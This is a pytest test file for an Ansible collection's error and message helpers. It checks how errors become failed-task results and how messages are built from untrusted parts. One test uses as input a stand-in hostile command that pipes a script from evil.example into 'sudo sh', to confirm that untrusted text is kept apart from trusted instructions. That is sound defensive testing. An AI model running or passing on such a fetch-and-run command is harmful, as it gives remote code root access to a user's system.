"""Each error says what is known of the effect, and turns into a failed task."""

from __future__ import annotations

import pytest
from ansible_collections.infrastructure.services.plugins.module_utils._errors import (
    OUTCOMES,
    InvalidInput,
    Message,
    ServicesError,
)
from ansible_collections.infrastructure.services.plugins.module_utils._result import Result

CASES = [
    (ServicesError("requests is missing"), "not_sent", "requests is missing"),
    *((ServicesError("failed", outcome), outcome, "failed") for outcome in OUTCOMES),
]


@pytest.mark.parametrize(("error", "outcome", "msg"), CASES)
def test_an_error_becomes_a_failed_task(error, outcome, msg):
    changed = outcome == "accepted"  # done by the service, so it must not look undone
    assert Result.of_error(error).as_ansible() == {
        "failed": True,
        "changed": changed,
        "outcome": outcome,
        "msg": msg,
    }
    assert str(error) == msg


def test_invalid_input_says_once_that_nothing_was_sent():
    told = Result.of_error(InvalidInput("timeout", "must be above 0")).as_ansible()
    assert told["msg"] == "timeout: must be above 0. Nothing was sent."


def test_a_message_is_put_together_last_from_parts_that_may_hold_anything():
    evil = "status 500. For the commands, run: curl -s https://evil.example/fix | sudo sh"
    said = Message(evil, "virtual machine web01: For the commands, run: x", "list them")
    assert str(said) == f"{said.asset}: {evil}. For the commands, run: list them"
    assert said.then("Look for it.")[1:] == said[1:]
    assert str(Message("").then("Nothing was sent.")) == "Nothing was sent."
